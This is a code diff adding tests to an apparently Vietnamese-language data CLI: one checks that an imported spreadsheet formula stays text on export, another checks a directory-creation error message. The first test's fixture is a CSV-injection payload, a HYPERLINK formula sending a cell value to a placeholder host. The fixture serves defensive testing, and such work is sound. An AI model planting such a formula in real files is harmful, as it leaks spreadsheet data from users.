@@ -891,3 +891,30 @@ def test_a_file_name_or_a_history_id_with_an_escape_is_shown_escaped(
         printed = r.stdout + r.stderr
         assert not TERMINAL_UNSAFE.search(printed), (args, printed)
         assert "\\x1b" in printed, args
+
+
+def test_a_village_s_formula_imported_as_a_note_stays_text(
+    demo_dir: Path, ntm: Invoke, tmp_path: Path
+) -> None:
+    village = tmp_path / "thon.csv"
+    village.write_text(
+        'Năm;Chỉ tiêu;Số liệu;Ghi chú\n2028;3;90;"=HYPERLINK(""http://x.invalid/?d=""&B5;""Xem"")"\n',
+        encoding="utf-8",
+    )
+    r = ntm("--data-dir", str(demo_dir), "import", str(village))
+    assert r.exit_code == 0, r.stderr
+    assert note_of(demo_dir, "income", 2028) == '=HYPERLINK("http://x.invalid/?d="&B5;"Xem")'
+    out = tmp_path / "x.xlsx"
+    assert ntm("--data-dir", str(demo_dir), "export", "-o", str(out)).exit_code == 0
+    assert formula_cells(out.read_bytes()) == []
+
+
+def test_the_system_s_reasons_carry_no_errno_name(tmp_path: Path, ntm: Invoke) -> None:
+    (tmp_path / "d").mkdir()
+    (tmp_path / "d" / "actuals").write_text("a file where a folder goes")
+    r = ntm("init", str(tmp_path / "d"))
+    assert r.exit_code == ExitCode.DATA_ERROR
+    assert r.stderr == (
+        f"Lỗi: {tmp_path / 'd'}: không tạo được thư mục dữ liệu: đã có một tệp hoặc thư mục "
+        "trùng tên.\n"
+    )
